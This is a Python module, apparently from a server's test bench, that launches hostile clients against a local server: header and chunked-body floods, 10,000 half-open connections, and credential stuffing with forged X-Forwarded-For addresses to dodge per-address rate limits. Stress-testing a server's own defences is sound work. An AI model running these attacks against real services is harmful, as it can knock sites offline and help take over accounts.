"""Hostile clients, as a process of their own: python -m bench.attackers KIND URL PATH [TOKEN].

    heads      60 MB of request headers on each of a few connections, again and again
    bodies     16 MB of request body in pieces, as a hold of the account of TOKEN, again and again
    half-open  10 000 connections with half a request each; one that is closed is opened again
    stuffing   stolen passwords: 200 sign-ins per second, each for another account and address

Prints a line when the attack is under way, and ends when its input ends. The clients come from many
addresses of the loopback network, as in a real attack, so that the limit per address does not end it at once.
"""

import asyncio
import sys
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from contextlib import asynccontextmanager
from itertools import count, cycle
from typing import Any
from urllib.parse import urlsplit

import uvloop

from bench.errors import require

HEAD_BYTES, BODY_BYTES, PIECE = 60_000_000, 16_000_000, 65_536
SENDERS = 4  # connections that send as much as they can
HALF_OPEN = 10_000
AT_ONCE = 200  # connections that are being opened
PAUSE_S = 1.0
GUESSERS, GUESSES_PER_SECOND = 64, 200  # ten times what the house takes of strangers
GUESSING_ADDRESSES = 5_000  # as in a botnet: none of them is over the limit per address
ADDRESSES = [f"127.0.0.{n}" for n in range(2, 42)]


class Attack:
    def __init__(self, url: str, path: str, token: str) -> None:
        address = urlsplit(url)
        self._host, self._port = address.hostname or "127.0.0.1", address.port or 80
        self._path, self._token = path, token
        self._from = cycle(ADDRESSES)
        self._opening = asyncio.Semaphore(AT_ONCE)
        self._open = 0
        self.is_under_way = asyncio.Event()

    async def heads(self) -> None:
        piece = b"".join(b"X-%05d: %s\r\n" % (n, b"a" * 1000) for n in range(PIECE // 1010))
        await self._send(f"GET {self._path} HTTP/1.1\r\nHost: x\r\n".encode(), piece, HEAD_BYTES)

    async def bodies(self) -> None:
        start = (
            f"POST {self._path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self._token}\r\n"
            "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        piece = b"%x\r\n%s\r\n" % (PIECE, b" " * PIECE)
        await self._send(start.encode(), piece, BODY_BYTES)

    async def half_open(self) -> None:
        await asyncio.gather(*(self._keep_half_open() for _ in range(HALF_OPEN)))

    async def stuffing(self) -> None:
        """As a proxy passes it on; an answer is read before a connection is used again."""
        numbers = count()
        self.is_under_way.set()
        await asyncio.gather(*(self._guess(numbers) for _ in range(GUESSERS)))

    async def _guess(self, numbers: Iterator[int]) -> None:
        reader, writer = await asyncio.open_connection(self._host, self._port)
        while True:
            n = next(numbers)
            address = f"100.{64 + n % GUESSING_ADDRESSES // 250}.{n % 250}.7"
            body = f'{{"email":"stolen{n}@list.example","password":"correct horse battery {n}"}}'
            head = (
                f"POST {self._path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {address}\r\n"
                f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
            )
            writer.write((head + body).encode())
            pause = asyncio.create_task(asyncio.sleep(GUESSERS / GUESSES_PER_SECOND))
            await read_response(reader)
            await pause

    async def _send(self, start: bytes, piece: bytes, length: int) -> None:
        async def send() -> None:
            while True:
                await self._send_once(start, piece, length)
                await asyncio.sleep(PAUSE_S)

        self.is_under_way.set()
        await asyncio.gather(*(send() for _ in range(SENDERS)))

    async def _send_once(self, start: bytes, piece: bytes, length: int) -> None:
        _, writer = await self._connect()
        try:
            writer.write(start)
            for _ in range(length // len(piece)):
                writer.write(piece)
                await writer.drain()
        except ConnectionError:
            return  # refused, and closed before all was sent
        finally:
            writer.close()

    async def _keep_half_open(self) -> None:
        while True:
            async with self._opening:
                reader, writer = await self._connect()
                writer.write(f"GET {self._path} HTTP/1.1\r\nHost: x\r\n".encode())
            self._open += 1
            if self._open == HALF_OPEN:
                self.is_under_way.set()
            try:
                await reader.read()
            except ConnectionError:
                await asyncio.sleep(PAUSE_S)
            finally:
                self._open -= 1
                writer.close()

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self._host, self._port, local_addr=(next(self._from), 0))


@asynccontextmanager
async def start_attack(kind: str, url: str, path: str, token: str = "") -> AsyncIterator[None]:
    """In a process of its own, under way until the block ends."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "bench.attackers", kind, url, path, token),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
    )
    assert process.stdout is not None
    line = await process.stdout.readline()
    require(line == b"under way\n" and process.returncode is None, f"the attack by {kind} did not begin")
    try:
        yield
    finally:
        await process.communicate(b"")  # its input ends
        require(process.returncode == 0, f"the attack by {kind} failed")


async def read_response(reader: asyncio.StreamReader) -> None:
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    await reader.readexactly(int(head.partition(b"content-length: ")[2].partition(b"\r\n")[0]))


async def run(kind: str, url: str, path: str, token: str) -> None:
    attack = Attack(url, path, token)
    kinds: dict[str, Callable[[], Coroutine[Any, Any, None]]] = {
        "heads": attack.heads,
        "bodies": attack.bodies,
        "half-open": attack.half_open,
        "stuffing": attack.stuffing,
    }
    work = asyncio.ensure_future(kinds[kind]())
    end = asyncio.ensure_future(asyncio.to_thread(sys.stdin.read))
    ready = asyncio.ensure_future(attack.is_under_way.wait())
    await asyncio.wait({work, ready, end}, return_when=asyncio.FIRST_COMPLETED)
    if ready.done():
        print("under way", flush=True)
        await asyncio.wait({work, end}, return_when=asyncio.FIRST_COMPLETED)
    if work.done():
        await work  # raises what ended it
    work.cancel()


if __name__ == "__main__":
    kind, url, path, *tokens = sys.argv[1:]
    uvloop.run(run(kind, url, path, "".join(tokens)))
